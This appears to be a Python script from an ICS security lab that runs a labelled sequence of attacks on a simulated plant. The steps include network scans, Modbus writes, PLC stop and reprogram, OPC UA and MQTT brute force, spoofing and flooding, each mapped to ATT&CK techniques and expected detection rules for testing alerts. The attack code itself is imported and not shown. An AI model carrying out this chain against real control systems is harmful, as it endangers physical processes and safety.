"""The attacker's steps of the demo and the drill, in kill-chain order, each labelled. Bounded, and inside the lab only.

Five intruders, so that the alerts belong to several incidents: a device on the control network (att), a contractor's
laptop there (vend), an office workstation, a public address, and the engineering station misused by its own user.
"""

from __future__ import annotations

import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass

from asyncua import ua
from asyncua.client.client import Client
from asyncua.ua.uaerrors import UaError

from compose.plant import attack_field as field
from compose.plant import attack_modbus as attack
from compose.plant import attack_mqtt as mqtt
from compose.plant import attack_network as network
from compose.plant import modbus_work as modbus
from compose.plant.addresses import MODBUS_PORT
from compose.plant.lab import Lab
from compose.plant.opcua_client import Login, harvest, node
from compose.plant.opcua_work import guess_passwords, stop_and_start
from compose.plant.proofs_opcua import within

_PAUSE = 1.2  # seconds between two steps
_SPOOFED = ("hmi", "plc2")


@dataclass(frozen=True)
class Attack:
    """One step: what it is called, who does it to whom, ATT&CK techniques, rules expected, and what is done."""

    name: str
    source: str
    destination: str
    techniques: str
    rules: str
    act: Callable[[Lab], object]


def _modbus(source: str, server: str, work: modbus.Work) -> Callable[[Lab], object]:
    return lambda lab: lab[source].run(modbus.session(server, work))


async def _write_node(client: Client) -> None:
    await node(client, "Tank.Setpoint").write_value(2900.0, ua.VariantType.Double)


def _opcua(work: Callable[[Client], Awaitable[object]]) -> Callable[[Lab], object]:
    async def act() -> None:
        try:
            await within(Login("opcua-shell"), work)
        except (UaError, ConnectionError):
            return

    return lambda lab: lab["office"].run(act())


def _spoof(lab: Lab) -> None:
    for victim in _SPOOFED:
        lab["vend"].call(network.learn_mac, victim)
    lab["vend"].call(network.arp_spoof, _SPOOFED, 20, 0.25, "vend")
    lab["vend"].call(network.arp_restore, _SPOOFED, "vend")


def _flood(lab: Lab) -> None:
    lab["att"].call(network.learn_mac, "plc1")
    lab["att"].call(network.syn_flood, "plc1", MODBUS_PORT, 700, 0.012)


NETWORK_STEPS = (
    Attack(
        "ARP sweep",
        "att",
        "10.9.1.0/24",
        "T0846",
        "G01 G06",
        lambda lab: lab["att"].call(network.arp_sweep, "att", 1, 254),
    ),
    Attack("TCP port scan", "att", "plc1", "T0846", "G02 G03", lambda lab: lab["att"].call(network.port_scan, "plc1")),
    Attack(
        "horizontal sweep of port 502",
        "att",
        "10.9.1.0/24",
        "T0846 T0888",
        "G04",
        lambda lab: lab["att"].call(network.sweep, MODBUS_PORT, network.control_hosts()),
    ),
)
MODBUS_STEPS = (
    Attack("unit identifier scan", "att", "gw", "T0846", "MB12", _modbus("att", "gw", modbus.scan_units)),
    Attack(
        "scan of all function codes on four units",
        "att",
        "plc1",
        "T0855 T0888",
        "MB06 MB07 MB08 MB15 MB17",
        lambda lab: lab["att"].run(attack.scan_all_functions()),
    ),
    Attack("identification by a stranger", "att", "plc1", "T0888", "MB08", _modbus("att", "plc1", modbus.identify)),
    Attack("register harvest", "att", "plc1", "T0801 T0861", "MB05", _modbus("att", "plc1", modbus.harvest_registers)),
    Attack("unauthorised write", "att", "plc1", "T0855 T0848", "MB01", _modbus("att", "plc1", attack.write_once)),
    Attack(
        "write burst and coil toggling",
        "att",
        "plc1",
        "T0806 T0855",
        "MB01 MB04",
        _modbus("att", "plc1", attack.toggle),
    ),
    Attack(
        "set-point held against the operator",
        "att",
        "plc1",
        "T0836 T0831 T0806",
        "MB01 MB03 MB04",
        _modbus("att", "plc1", attack.hold_setpoint),
    ),
)
FIELD_STEPS = (
    Attack("packing line stopped and reset", "att", "plc4", "T0858 T0816", "EI01 EI02", field.stop_packing_line),
    Attack("commands and restart of the pump station", "att", "pump", "T0855 T0816", "DN01 DN03 DN05",
           field.command_pump_station),
    Attack("air handling overridden and restarted", "att", "ahu", "T0835 T0816", "BA10 BA01 BA02",
           field.override_air_handling),
    Attack("trip in the relay's name", "att", "relay", "T0856 T0855", "GO01", field.trip_bay),
)  # fmt: skip
LAPTOP_STEPS = (
    Attack("filling line read out, loaded and stopped", "vend", "plc3", "T0845 T0843 T0858", "S701 S703 S704 S711",
           field.reprogram_filling_line),
    Attack("command sweep of the substation", "vend", "rtu", "T0806 T0855", "IE01 IE03 IE04 IE10",
           field.sweep_substation),
)  # fmt: skip
ENGINEERING_STEPS = (
    Attack("file record write", "eng", "plc2", "T0889", "MB17", _modbus("eng", "plc2", attack.write_file)),
    Attack("clear counters", "eng", "plc2", "T0872", "MB11", _modbus("eng", "plc2", attack.clear_counters)),
    Attack("restart communications", "eng", "plc2", "T0816 T0814", "MB09", _modbus("eng", "plc2", attack.restart)),
    Attack(
        "force listen-only mode",
        "eng",
        "plc2",
        "T0814 T0803",
        "MB10 X04",
        _modbus("eng", "plc2", attack.force_listen_only),
    ),
)
OPCUA_STEPS = (
    Attack(
        "OPC UA login brute force",
        "office",
        "opc",
        "T0859",
        "UA01 UA07 UA18 G14 G02 G09",
        lambda lab: lab["office"].run(guess_passwords(40)),
    ),
    Attack(
        "address space harvest", "office", "opc", "T0861 T0802", "UA03 UA05 UA08", _opcua(lambda c: harvest(c, 160))
    ),
    Attack("write by a stranger", "office", "opc", "T0855 T0836", "UA09", _opcua(_write_node)),
    Attack("method call by a stranger", "office", "opc", "T0871 T0855", "UA10", _opcua(stop_and_start)),
)
MQTT_STEPS = (
    Attack(
        "MQTT login brute force", "internet", "broker", "T0859 T0883", "MQ04 G14 G02 G08 G09 G22", mqtt.guess_passwords
    ),
    Attack("MQTT flood", "internet", "broker", "T0814", "MQ09 G23", mqtt.flood),
    Attack(
        "wildcard subscription",
        "internet",
        "broker",
        "T0801 T0802",
        "MQ01",
        mqtt.as_client("mqtt-explorer-7f3a", "historian", lambda intruder: intruder.subscribe("#", "$SYS/#"), 2.0),
    ),
    Attack(
        "command published, retained status overwritten",
        "internet",
        "broker",
        "T0855 T0856 T0832",
        "MQ05 MQ06",
        mqtt.as_client("paho-2291", "operator", mqtt.command),
    ),
    Attack(
        "rogue Sparkplug commands",
        "internet",
        "broker",
        "T0855",
        "MQ12",
        mqtt.as_client("scada-x", "operator", mqtt.sparkplug_commands),
    ),
    Attack(
        "client id takeover",
        "internet",
        "broker",
        "T0849 T0830",
        "MQ07",
        mqtt.as_client("hmi-1", "operator", lambda intruder: None, 6.0),
    ),
)
FINAL_STEPS = (
    Attack("ARP spoofing, man in the middle", "vend", "plc2", "T0830", "L01 L02", _spoof),
    Attack("SYN flood", "10.9.1.67", "plc1", "T0814", "G23 G25", _flood),
)
STEPS = (
    *NETWORK_STEPS,
    *MODBUS_STEPS,
    *FIELD_STEPS,
    *ENGINEERING_STEPS,
    *OPCUA_STEPS,
    *MQTT_STEPS,
    *LAPTOP_STEPS,
    *FINAL_STEPS,
)


def play(lab: Lab) -> None:
    """Do all steps, one after the other, with a label each. The plant must be running."""
    for step in STEPS:
        with lab.step(step.name, step.source, step.destination, step.techniques.split(), step.rules.split()):
            step.act(lab)
        time.sleep(_PAUSE)
